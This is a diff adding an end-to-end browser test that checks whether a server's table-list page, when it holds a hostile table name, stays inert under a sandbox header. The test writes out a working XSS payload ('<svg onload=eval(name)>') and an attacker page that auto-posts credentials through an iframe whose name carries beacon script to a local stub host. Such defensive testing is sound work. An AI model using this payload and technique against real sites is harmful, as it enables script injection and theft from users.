@@ -12,6 +12,7 @@
 #include "platform/markup.h"
 #include "tests/support/browser.h"
 #include "tests/support/cgi_runner.h"
+#include "tests/support/fb_testdb.h"
 #include "tests/support/form.h"
 #include "tests/support/http_client.h"
 #include "tests/support/page_server.h"
@@ -125,6 +126,55 @@ TEST(InertErrorPagesE2e, InjectedScriptDoesNotRunInABrowser) {
         << a.action << ": the control page's script did not run\n"
         << Joined(attacker.Requests());
   }
+}
+
+// A success answer carries database text as it is: the table list of a database the caller
+// names (the caller's own server, when no list of allowed databases is set). A table name of 31
+// bytes is room enough for a script that runs the frame's own name, which the attacking page
+// chooses.
+TEST(InertErrorPagesE2e, HostileTableNameDoesNotRunInABrowser) {
+  KVO_REQUIRE_ENV(base, "KVO_HTTP_URL");
+  KVO_REQUIRE_BROWSER();
+  KVO_REQUIRE_FIREBIRD();
+  const std::string table = "<svg onload=eval(name)>";
+  TempDatabase db;
+  db.Execute("create table \"" + table + "\" (i integer)");
+  PageServer attacker;
+  const std::string fields =
+      Form({{"db", db.connection()}, {"u", db.user()}, {"p", db.password()}});
+  const std::string action = ActionUrl(base, "ikvowebserver.dll", "/tabelas");
+
+  HttpResponse r = HttpPost(action, fields);
+  EXPECT_EQ(r.status, 200);
+  EXPECT_EQ(r.Header("Content-Security-Policy"), "sandbox");
+  EXPECT_EQ(r.Header("X-Content-Type-Options"), "nosniff");
+  ASSERT_NE(r.body.find(table), std::string::npos) << r.body;
+  // The positive control: the same bytes from a server that adds no header.
+  attacker.Serve("/control", r.body);
+
+  auto frame = [&](const std::string& beacon) {
+    return platform::HtmlEscape("new Image().src='" + attacker.Url("/beacon?" + beacon) + "'");
+  };
+  std::string page = "<html><body>\n<iframe name=\"" + frame("tabelas") +
+                     "\"></iframe>\n<form target=\"" + frame("tabelas") +
+                     "\" method=\"post\" action=\"" + platform::HtmlEscape(action) + "\">";
+  for (const auto& [name, value] : {std::pair<std::string, std::string>{"db", db.connection()},
+                                    {"u", db.user()},
+                                    {"p", db.password()}})
+    page += "<input name=\"" + name + "\" value=\"" + platform::HtmlEscape(value) + "\">";
+  page += "</form>\n<script>document.forms[0].submit();</script>\n</body></html>\n";
+  attacker.Serve("/attack", page);
+  BrowserDom(attacker.Url("/attack"), 5000);
+  std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  EXPECT_TRUE(Beacons(attacker).empty()) << Joined(attacker.Requests());
+
+  attacker.Serve("/controls", "<html><body><iframe name=\"" + frame("control") +
+                                  "\" src=\"/control\"></iframe></body></html>\n");
+  BrowserDom(attacker.Url("/controls"), 5000);
+  std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  EXPECT_NE(Joined(Beacons(attacker)).find("/beacon?control"), std::string::npos)
+      << "the control page's script did not run\n"
+      << Joined(attacker.Requests());
 }
 
 }  // namespace
